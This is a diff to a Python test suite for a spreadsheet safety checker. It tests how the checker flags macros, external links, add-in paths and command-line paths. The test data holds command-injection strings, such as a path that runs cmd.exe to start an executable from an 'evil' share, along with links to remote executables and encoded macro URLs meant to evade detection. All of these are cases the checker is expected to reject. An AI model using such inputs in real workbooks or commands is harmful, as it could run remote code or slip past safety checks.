@@ -28,6 +28,7 @@ from traps import (
     Change,
     add,
     both,
+    filled,
     hyperlink,
     linked,
     name,
@@ -39,7 +40,7 @@ from traps import (
 
 from workbook.check.calls import report as calls_report
 from workbook.check.report import report
-from workbook.check.safety.addresses import path_fault
+from workbook.check.safety.addresses import path_fault, python_fault
 from workbook.check.safety.functions import OUTSIDE, reached
 from workbook.check.safety.projects import COMPILED
 from workbook.check.safety.verdict import Safety, judged
@@ -48,7 +49,9 @@ from workbook.configuration import SHEET
 from workbook.hosts import excel_files, lite
 from workbook.package import ods
 from workbook.package.archive import zipped
+from workbook.package.limits import LIMITS
 from workbook.package.package import Package
+from workbook.status import CHECKS
 from workbook.vba import compound
 from workbook.vba.compression import compressed, decompressed
 from workbook.vba.project import is_source_only, parsed, written
@@ -64,7 +67,7 @@ def macros(built: bytes) -> bytes:
 def bare(macros: bytes) -> bytes:
     """Return the same without the cells of most sheets, which take time to read."""
     package = Package.opened(macros)
-    kept = {package.sheets[title].part for title in ("DCF", "Sources", SHEET)}
+    kept = {package.sheets[title].part for title in ("DCF", "Sources", SHEET, CHECKS)}
     cells = re.compile(rb"<sheetData>.*</sheetData>", re.DOTALL)
     return zipped({
         part: cells.sub(b"<sheetData/>", content) if part not in kept else content
@@ -204,7 +207,11 @@ def test_links_of_a_user_are_notes_and_those_of_the_sources_are_none(macros: byt
 
 
 def test_the_add_in_is_no_other_file(macros: bytes) -> None:
-    for target in ("/Users/Ann/offtake.xlam", "offtake.xlam", "file:///C:\\x\\Offtake.xlam"):
+    for target in (
+        *("/Users/Ann/offtake.xlam", "offtake.xlam", "file:///C:\\x\\Offtake.xlam"),
+        *("../tools/offtake.xlam", "file:///Users/Ann/R&D/offtake.xlam"),
+        "file:///C:/Users/Ann%20Lee/AppData/Roaming/Microsoft/AddIns/offtake.xlam",
+    ):
         assert judged(linked(target)(Package.opened(macros))) == Safety()
 
 
@@ -273,6 +280,10 @@ def test_modules_are_those_that_olevba_finds(macros: bytes) -> None:
          "has the short name DOWNLO~1, which hides the folder's own"),
         (r'C:\x\python.exe" & calc & "', "is not a file path"),
         (r"C:\x\notes.txt:python.exe", "is not a file path"),
+        (r"C:\Windows\System32\cmd.exe /c start \\evil\share\x.exe", "is not a file path"),
+        (r"C:\x\run.bat /c calc", "is not a file path"),
+        ("C:/x/python.exe -m evil", "is not a file path"),
+        (r"C:\my.executables\python.exe", ""),
         (r"C:\Python312\python.exe", ""),
         (r"c:\Program Files\R&D (x)\it's 100%\python.exe", ""),
         (r"\\?\C:\Python312\python.exe", ""),
@@ -284,6 +295,31 @@ def test_modules_are_those_that_olevba_finds(macros: bytes) -> None:
 )  # fmt: skip
 def test_paths(path: str, fault: str) -> None:
     assert path_fault(path) == fault
+
+
+@pytest.mark.parametrize(
+    ("path", "fault"),
+    [
+        (r"C:\Program Files\Python 3.12\python.exe", ""),
+        (r"%LOCALAPPDATA%\Programs\Python\Python312\pythonw.exe", ""),
+        ("C:/Python312/PYTHON3.12.EXE", ""),
+        ("/opt/venv/bin/python3.12", ""),
+        (r"C:\Windows\System32\cmd.exe", "is not a Python"),
+        (r"C:\Windows\py.exe", "is not a Python"),
+        (r"C:\Python312\python", "is not a Python"),
+        (r"C:\Python312\python.bat", "is not a Python"),
+        (r"C:\python.exe\cmd.exe", "is not a file path"),
+        (r"C:\python\cmd.exe", "is not a Python"),
+        ("/bin/sh", "is not a Python"),
+        ("/usr/bin/python3;open x", "is not a file path"),
+        (r"C:\R&D\python.exe", "is not a file path"),
+        (r"C:\%a b%\python.exe", "is not a file path"),
+        (r"C:\a^b\python.exe", "is not a file path"),
+        (r"\\server\python.exe", "is on another machine"),
+    ],
+)
+def test_what_is_put_into_a_command_line(path: str, fault: str) -> None:
+    assert python_fault(path) == fault
 
 
 @pytest.mark.parametrize(
@@ -317,11 +353,15 @@ def test_what_honest_workbooks_have_is_no_finding(bare: bytes) -> None:
     honest = {
         formula: free(f"={formula}")
         for formula in (
-            *('HYPERLINK("#Peers[EV]","EV / sales: //")', 'HYPERLINK("#"&Q0)', "CB.X(1)", "BDP(1)"),
-            *('HYPERLINK("#"&ADDRESS(1,2))', 'INDIRECT("Peers["&A1&"]")', "My.Run(1)"),
-            'IF(A1="//",INDIRECT("A"&A2))',
+            *('HYPERLINK("#Peers[EV]","EV / sales: //")', "CB.X(1)", "BDP(1)", "My.Run(1)"),
+            *("""HYPERLINK("#'R&D'!"&ADDRESS(1,2))""", 'HYPERLINK("#DCF!A"&ROW(A1))'),
+            *('INDIRECT("Peers["&A1&"]")', 'IF(A1="//",INDIRECT("A"&A2))'),
+            r"'C:\Program Files\M&A\offtake.xlam'!DCF_WACC(1)",
         )
     } | {
+        "a link to what a cell says": both(filled("<f>1</f>"), free("=HYPERLINK(CM900)")),
+        "a link to what a cell of a sheet says": both(
+            filled("<f>1</f>"), free("=HYPERLINK('DCF'!$CM$900)")),
         "LAMBDA": name("Double", "_xlfn.LAMBDA(_xlpm.f,_xlpm.x,_xlpm.f(_xlpm.x))"),
         "a LAMBDA in a cell": both(name("GET.X", "_xlfn.LAMBDA(_xlpm.x,_xlpm.x)"),
                                    free("=GET.X(1)")),
@@ -413,6 +453,9 @@ def test_a_workbook_of_ones_own_is_judged_too() -> None:
     assert found.summary.endswith("1 work; 2 safety findings.")
 
 
+KEYS = "Configurations2/accelerator/current.xml"
+RUNS = "has a menu or a key that runs a macro or opens an address"
+META = '<m:meta xmlns:m="m" xmlns:l="l">{}</m:meta>'
 CONTENT = (
     '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
     'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
@@ -442,7 +485,77 @@ CONTENT = (
         ("", "", {"META-INF/macrosignatures.xml": b"x"},
          ["META-INF/macrosignatures.xml: is a digital signature; Offtake signs no file"]),
         ("", "", {"Configurations2/accelerator/current.xml": b"<a href='vnd.sun.star.script:x'/>"},
-         ["Configurations2/accelerator/current.xml: has a menu or a key that runs a macro"]),
+         [f"{KEYS}: {RUNS}"]),
+        *(("", "", {KEYS: content}, [f"{KEYS}: {RUNS}"]) for content in (
+            b"<a href='vnd.sun.star.script&#58;x'/>", b"<a href='vnd.sun.star.script%3ax'/>",
+            b" " * 200 + b"<a href='macro:///S.M.main'/>",
+            "<a href='macro:///S.M.main'/>".encode("utf-16"), b"<a href='//server/x'><",
+        )),
+        # A toolbar, as Calc writes it.
+        ("", "", {"Configurations2/toolbar/mine.xml":
+            b'<!DOCTYPE t:toolbar PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" '
+            b'"toolbar.dtd"><t:toolbar xmlns:t="http://openoffice.org/2001/toolbar" xmlns:l="x">'
+            b'<t:item l:href=".uno:Save"/><t:item l:href="private:resource/toolbar/x"/>'
+            b"</t:toolbar>"}, []),
+        # Where the file comes from, and where it goes when it is opened again.
+        ("", "", {"meta.xml": META.format('<m:auto-reload l:href="http://x.org/x.ods"/>').encode()},
+         ["meta.xml: fetches http://x.org/x.ods"]),
+        ("", "", {"meta.xml": META.format('<m:auto-reload l:href="http://x.org"/><br>').encode()},
+         ["meta.xml: fetches http://x.org"]),
+        ("", "", {"Object 1/meta.xml":
+            META.format('<m:template l:href="file://server/t.ots"/>').encode()},
+         ["Object 1/meta.xml: has a template that is on another machine: file://server/t.ots"]),
+        ("", "", {"meta.xml": META.format(
+            '<m:template l:href="file:///C:/Users/Ann/t.ots"/><m:template l:href="../t.ots"/>'
+            '<m:auto-reload l:href="" m:delay="PT9S"/>').encode()}, []),
+        # A link around another, or around a text that is its address.
+        ("", '<draw:a xlink:href="file:////evil/x.exe"><text:p><text:a xlink:href="https://x.org">'
+         "https://x.org</text:a></text:p></draw:a>", {},
+         ["content.xml: has a link to file:////evil/x.exe"]),
+        ("", '<draw:a xlink:href="https://x.org"><text:p><text:a xlink:href="#S.A1">https://x.org'
+         "</text:a></text:p></draw:a>", {}, []),
+        # Another attribute of the same name.
+        ("", '<draw:image xmlns:y="y" xlink:href="http://x.org/a" y:href="#"/><text:a xmlns:y="y" '
+         'xlink:href="file:///x.exe" y:href="#"/>', {},
+         ["content.xml: fetches http://x.org/a", "content.xml: has a link to file:///x.exe"]),
+        # Rules for entries and formats, and formulas that were changed.
+        *(("", f'<x:{element} xmlns:x="x" x:{name}="{text}"/>', {},
+           [f"content.xml: the element {element} {said}: {shown}"])
+          for element, name in (("content-validation", "condition"), ("map", "condition"),
+                                ("condition", "value"), ("color-scale-entry", "value"),
+                                ("change-track-table-cell", "formula"))
+          for text, said, shown in (
+              ("of:is-true-formula(LEN(COM.MICROSOFT.WEBSERVICE(&quot;http://x&quot;))&gt;0)",
+               "calls WEBSERVICE",
+               'of:is-true-formula(LEN(COM.MICROSOFT.WEBSERVICE("http://x"))>0)'),
+              ("of:cell-content()=['file:///x.ods'#$S.A1]", "refers to the file x.ods",
+               "of:cell-content()=['file:///x.ods'#$S.A1]"))),
+        # Calc reads this as a reference to another file.
+        ("table:formula=\"of:=[.B1]+'file:///x.ods'#$S.A1\"", "", {},
+         ["content.xml: the element table-cell refers to another file: "
+          "of:=[.B1]+'file:///x.ods'#$S.A1"]),
+        ("table:formula=\"of:=['file:///x.ods'#$S.A1]\"", "", {},
+         ["S!A1: refers to the file x.ods: ='file:///[x.ods]S'!A1"]),
+        ("table:formula=\"of:=['a'.A1]&amp;&quot;'a'#&quot;\"", "", {}, []),
+        # A spreadsheet within the spreadsheet.
+        ("", "", {"Object 1/content.xml": b'<x:table-cell xmlns:x="x" x:formula="of:=CALL(1)"/>'},
+         ["Object 1/content.xml: the element table-cell calls CALL: of:=CALL(1)"]),
+        *(("", f'<x:y xmlns:x="x" x:{name}="{text}"/>', {}, []) for name, text in (
+            ("condition", "value()&gt;=0"), ("value", "WEBSERVICE(1)"), ("title", "CALL(1)"),
+            ("condition", "of:cell-content-is-in-list(&quot;CALL(1)&quot;;&quot;'a'#&quot;)"),
+            ("condition", "of:cell-content()&lt;['a #1'.A1]"), ("formula", "$0 +sqrt(?f1 *2)"),
+            ("cell-range-address", "$'a #1'.A1:$'b'.B2"), ("linked-cell", "S.A1"),
+        )),
+        # Other files and databases.
+        *(("", f"""<x:y xmlns:x="x" x:{name}="'file:///x.ods'#$S.A1:.B2"/>""", {},
+           ["content.xml: the element y refers to another file: 'file:///x.ods'#$S.A1:.B2"])
+          for name in ("target-range-address", "source-cell-range-addresses", "linked-cell",
+                       "source-cell-range", "scenario-ranges", "cell-range-address")),
+        ("", '<x:form xmlns:x="x" x:datasource="file://x/y.odb"/><x:form xmlns:x="x" '
+         'x:datasource="" xlink:href=""/>', {},
+         ["content.xml: fetches data from the database file://x/y.odb"]),
+        ("", '<x:image xmlns:x="x" x:image-data="http://x.org/a.png"/>', {},
+         ["content.xml: fetches http://x.org/a.png"]),
         ("", "", {"x.exe": b"MZ"},
          ["x.exe: is a part that neither Offtake nor spreadsheets usually write"]),
         ("", '<s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>', {},
@@ -468,6 +581,22 @@ def test_an_opendocument_spreadsheet(
 ) -> None:
     parts = {"mimetype": ods.MIMETYPES[0], "content.xml": CONTENT.format(cell, inside).encode()}
     assert lines(ods.opened(zipped(parts | more), {})) == said
+
+
+def test_what_takes_too_long_does_not_hide_what_is_not_safe(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setitem(LIMITS, "seconds", LIMITS["seconds"]._replace(most=0))
+    found = calls_report(own('=HYPERLINK("http://x.org")'))
+    assert found.faults == [
+        'Sheet!A2: has a link that leads to http://x.org: =HYPERLINK("http://x.org")',
+        'xl/workbook.xml: the name Rate calls CALL: =CALL("x")',
+        "No call is judged: the workbook must take at most 0 seconds of processor time in its "
+        "functions, which it has taken up to Sheet!A1.",
+    ]
+    assert found.summary == (
+        "1 cell with calls to Offtake's functions: none judged; 2 safety findings."
+    )
 
 
 def test_commands_that_go_on_say_it_first(macros: bytes, offtake: Command) -> None:
